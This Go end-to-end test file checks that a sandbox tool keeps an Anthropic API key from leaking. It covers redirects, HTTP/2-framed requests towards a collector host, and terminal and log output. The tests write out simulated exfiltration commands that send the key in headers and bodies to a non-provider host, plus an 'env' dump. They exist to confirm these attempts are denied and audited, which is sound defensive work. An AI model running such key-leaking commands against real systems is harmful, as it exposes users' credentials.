package e2e

import (
	"strings"
	"testing"

	"berth.dev/internal/audit"
)

// led follows a redirect of a bound host's, with the header that has the key, to
// where the key must not go: over a connection in the clear, or to another host.
func (k keeping) led(t *testing.T, path string) {
	n := len(k.origin.Requests())
	before, _ := k.u.events(t, k.name, "--secrets")
	r := k.sh(t, `curl -sSL -w ' %{http_code}' -H "x-api-key: $ANTHROPIC_API_KEY" https://`+providerHost+path)
	if got := k.since(n); strings.Count(got, realKey) != 1 || strings.Contains(got, k.placeholder) {
		t.Errorf("the key was to arrive once, before the redirect: %s", got)
	}
	if r.code != 0 || !strings.HasSuffix(r.out, " 403") || strings.Contains(r.out, realKey) {
		t.Errorf("%+v", r)
	}
	after, text := k.u.events(t, k.name, "--secrets")
	if len(after) != len(before)+2 || after[len(after)-2].Verdict != audit.Allow || after[len(after)-1].Verdict != audit.Deny {
		t.Errorf("%d lines before, %d after:\n%s", len(before), len(after), text)
	}
}

// inFrames sends the placeholder in HTTP/2 frames of three bytes each. Towards the
// host that it is for that changes nothing; no other gets it.
func (k keeping) inFrames(t *testing.T) {
	streams{k.u, k.ws, k.name}.client(t)
	send := func(host, what string) (r result, arrived string) {
		n := len(k.origin.Requests())
		r = k.sh(t, `./streamclient frames https://`+host+`/ "`+what+`"`)
		return r, k.since(n)
	}
	// The client, and the way: what is harmless arrives.
	for _, what := range []string{"header:sk-harmless-in-pieces", "body:harmless-in-pieces"} {
		if r, got := send(collectorHost, what); r.code != 0 || !strings.HasPrefix(r.out, "200 ") || !strings.Contains(got+k.told.sent(), "harmless-in-pieces") {
			t.Errorf("%s: %+v", what, r)
		}
	}
	if r, got := send(providerHost, "header:$ANTHROPIC_API_KEY"); r.code != 0 || !strings.HasPrefix(r.out, "200 "+k.placeholder) || !strings.Contains(got, realKey) {
		t.Errorf("to the host that it is for: %+v", r)
	}
	for _, what := range []string{"header:$ANTHROPIC_API_KEY", "body:$ANTHROPIC_API_KEY"} {
		before, _ := k.u.events(t, k.name, "--secrets")
		r, got := send(collectorHost, what)
		if strings.HasPrefix(r.out, "200") || strings.Contains(got, k.placeholder) || strings.Contains(got, realKey) {
			t.Errorf("%s: %+v", what, r)
		}
		after, text := k.u.events(t, k.name, "--secrets")
		if len(after) != len(before)+1 || after[len(after)-1].Verdict != audit.Deny {
			t.Errorf("%s: %d lines before, %d after:\n%s", what, len(before), len(after), text)
		}
	}
	if got := k.told.sent(); strings.Contains(got, k.placeholder) || strings.Contains(got, realKey) {
		t.Errorf("in a body came %s", got)
	}
	// A model may be told what the guest has seen, and that is the placeholder.
	if r, _ := send(providerHost, "body:$ANTHROPIC_API_KEY"); r.code != 0 || !strings.HasPrefix(r.out, "200 ") {
		t.Errorf("said to the model: %+v", r)
	}
	if got := k.told.sent(); !strings.Contains(got, k.placeholder) || strings.Contains(got, realKey) {
		t.Errorf("the model was told %s", got)
	}
}

// TestAdversarySecretsTerminal: neither what a program prints in the user's
// terminal, nor what is kept of that, has the key.
func TestAdversarySecretsTerminal(t *testing.T) {
	least(t, func(t *testing.T, u *user) {
		k := newKeeping(t, u)
		leaky := k.leaky(t)
		for _, name := range []string{leaky, k.name} {
			s := k.u.openWith(t, k.ws, []string{"ANTHROPIC_API_KEY=" + realKey}, "run", "--name", name, "shell", k.ws)
			s.keys("PS1='$((6*7))> '\r")
			s.see("42> ")
			s.keys(`env; curl -sS -i -H "x-api-key: $ANTHROPIC_API_KEY" https://` + providerHost + "/error; echo do''ne\r")
			s.see("done")
			s.keys("exit\r")
			if err := s.wait(); err != nil {
				t.Errorf("%s: %v", name, err)
			}
			for what, text := range map[string]string{
				"terminal": s.text(), "log": k.u.must(t, k.ws, "logs", name), "supervisor's log": k.u.must(t, k.ws, "logs", "--supervisor", name),
			} {
				if what != "supervisor's log" && !strings.Contains(text, "bad key") {
					t.Fatalf("%s: the %s lacks what was printed:\n%s", name, what, text)
				}
				has := strings.Contains(text, realKey)
				if name == k.name && has {
					t.Errorf("the key is in the %s", what)
				}
				if name == leaky && !has && what != "supervisor's log" {
					t.Errorf("where the key is inside, it is not found in the %s", what)
				}
			}
		}
	})
}

// leaky is a sandbox whose key is inside, because its user said so: it shows that
// a leak would be found.
func (k keeping) leaky(t *testing.T) string {
	t.Helper()
	name := k.u.fresh(t)
	r := k.u.run(t, k.ws, nil, "create", "--name", name, "-e", "ANTHROPIC_API_KEY="+realKey, "shell", k.ws)
	if r.code != 0 || !strings.Contains(r.err, "looks like a key") {
		t.Fatalf("%+v", r)
	}
	return name
}
